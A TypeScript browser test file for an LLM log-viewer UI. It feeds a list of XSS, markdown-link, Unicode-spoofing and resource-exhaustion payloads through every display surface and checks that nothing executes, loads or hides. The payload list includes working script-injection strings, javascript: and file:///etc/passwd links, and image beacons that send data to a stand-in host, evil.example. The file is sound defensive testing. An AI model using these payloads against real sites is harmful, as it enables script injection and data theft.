import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { LogRow } from '../../src/api/ui/contract.ts'
import { openBrowser, openPage } from './browser.ts'
import { fakeDetail, fakeRow, fakeRunning, idOf } from './fake-data.ts'
import { FakeServer } from './fake-server.ts'

const BAD_SCHEME = /^(?!https?:|mailto:)/
const EVIL = 'https://evil.example'

/** Each would call `alert`, leave the machine, or make a text say what it does not. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${EVIL}/a.png">`,
  '<svg onload=alert(1)>',
  `<svg><script href="${EVIL}/x.js"/></svg>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src="${EVIL}"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}/a.css">`,
  `<link rel=preload as=image href="${EVIL}/p.png">`,
  `<style>@import url(${EVIL}/a.css)</style>`,
  `<style>*{background:url(${EVIL}/b)}</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}"><button>go</button></form>`,
  `<video src="${EVIL}/v.mp4" autoplay></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  `[x](\tjavascript:alert(1))`,
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/p)',
  '[x](/internal/ui/setup)',
  `![](${EVIL}/?d=secret)`,
  `![a](${EVIL}/x.svg "t")`,
  `[![](${EVIL}/n.png)](${EVIL}/click)`,
  `![x][ref]\n\n[ref]: ${EVIL}/r.png`,
  `<${EVIL}/auto>`,
  `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '"><img src=x onerror=alert(1)>',
  `'-alert(1)-'`,
  `\${alert(1)}{{constructor.constructor('alert(1)')()}}`,
  `safe\u202Etxt.exe`,
  `pay\u200Bpal \u2066hidden\u2069 \u{E0041}\u{E0042}`,
  `\u001B]8;;${EVIL}\u0007click\u001B]8;;\u0007`,
  `\u0000\u0008null`,
  `${'> '.repeat(20_000)}x`,
  '['.repeat(20_000),
  '*a '.repeat(20_000),
  '`'.repeat(9_000),
] as const

let browser: Browser

beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser.close())

test('nothing that a stranger wrote runs, is fetched, or hides, on any surface', async () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(30)
  const server = new FakeServer()
  server.total = PAYLOADS.length
  for (const [at, payload] of PAYLOADS.entries()) poison(server, at + 1, payload)
  const { page, problems } = await openPage(browser, await server.listen())

  await page.goto('/ui/logs')
  await page.locator('.rows .row').first().waitFor()
  for (const payload of PAYLOADS) {
    const id = idOf(-1)
    server.running = []
    server.send({ type: 'start', row: { ...poisonedRow(1, payload), ...running(id) } })
    server.send({ type: 'delta', id, text: payload, reasoning: payload, latency_ms: 9 })
  }
  await page.locator(`[data-id="${idOf(-1)}"] .preview`).click()
  await page.waitForTimeout(300)

  for (const at of PAYLOADS.keys()) {
    await page.goto(`/ui/logs/${idOf(at + 1)}`)
    await page.locator('.message.output').waitFor()
    expect(await page.locator('.page img, .page iframe, .page object, .page embed').count()).toBe(0)
    const hrefs = await page.evaluate(
      "[...document.querySelectorAll('.page a')].map((one) => one.href)",
    )
    expect(hrefs).toEqual(expect.not.arrayContaining([expect.stringMatching(BAD_SCHEME)]))
  }
  for (const tab of ['request', 'response', 'attempts']) {
    await page.goto(`/ui/logs/${idOf(1)}?tab=${tab}`)
    await page.getByRole('tabpanel').waitFor()
  }
  expect(problems).toEqual([])
  await page.context().close()
  server.close()
}, 120_000)

test('characters that hide or turn text around are shown for what they are', async () => {
  const server = new FakeServer()
  poison(server, 1, 'invoice\u202Efdp.exe zero\u200Bwidth 👩\u200D💻')
  const { page } = await openPage(browser, await server.listen())
  await page.goto(`/ui/logs/${idOf(1)}`)
  const shown = await page.locator('.message.output').innerText()
  expect(shown).toContain('invoiceU+202Efdp.exe')
  expect(shown).toContain('zeroU+200Bwidth')
  expect(shown).toContain('👩\u200D💻')
  await page.context().close()
  server.close()
})

test('a link shows its host and gives nothing away; an image is a link one may follow', async () => {
  const server = new FakeServer()
  poison(server, 1, `[my bank](${EVIL}/login) and ![chart](${EVIL}/?d=secret)`)
  const { page, problems } = await openPage(browser, await server.listen())
  await page.goto(`/ui/logs/${idOf(1)}`)
  const link = page.locator('.message.output').getByRole('link', { name: 'my bank' })
  expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  expect(await page.locator('.message.output').innerText()).toContain('(evil.example)')
  const image = page.locator('.message.output').getByRole('link', { name: /Load image/ })
  expect(await image.innerText()).toBe('Load image from evil.example')
  expect(problems).toEqual([])
  await page.context().close()
  server.close()
})

function poison(server: FakeServer, index: number, payload: string): void {
  const row = poisonedRow(index, payload)
  server.rows.set(index, row)
  const detail = fakeDetail(row)
  const [first, second] = detail.attempt_list
  if (first === undefined || second === undefined) throw new Error('two attempts were expected')
  server.details.set(row.id, {
    ...detail,
    ...row,
    warnings: [payload],
    error_code: payload,
    finish: payload,
    input: [
      { role: 'system', content: [{ type: 'text', text: payload }] },
      { role: 'user', content: [{ type: 'text', text: payload }, file(payload), file(EVIL)] },
      {
        role: 'assistant',
        content: [
          { type: 'text', text: payload },
          { type: 'tool_call', id: payload, name: payload, arguments: payload },
          { type: 'unknown', data: { payload } },
        ],
      },
      { role: 'user', content: [{ type: 'tool_result', id: 'x', name: payload, result: payload }] },
    ],
    tools: [{ name: payload }],
    output: [
      { type: 'thought', text: payload },
      { type: 'text', text: payload },
      { type: 'refusal', text: payload },
    ],
    raw_request: payload,
    attempt_list: [
      { ...first, error_message: payload, provider: payload, upstream_model: payload },
      { ...second, url: payload, finish_raw: payload, raw_response: payload },
    ],
  })
}

function poisonedRow(index: number, payload: string): LogRow {
  return {
    ...fakeRow(index, Date.now()),
    function_name: payload.slice(0, 200),
    variant_name: payload.slice(0, 200),
    requested_model: payload.slice(0, 200),
    model: payload.slice(0, 200),
    provider: payload.slice(0, 200),
    input_preview: payload.slice(0, 200),
    error_message: payload.slice(0, 200),
    tags: { [payload.slice(0, 60)]: payload.slice(0, 60) },
  }
}

function running(id: string): Partial<LogRow> {
  const { state, outcome, status, started_at } = fakeRunning(id, Date.now())
  return { id, state, outcome, status, started_at }
}

function file(url: string): { type: 'file'; url: string; filename: string } {
  return { type: 'file', url, filename: url }
}
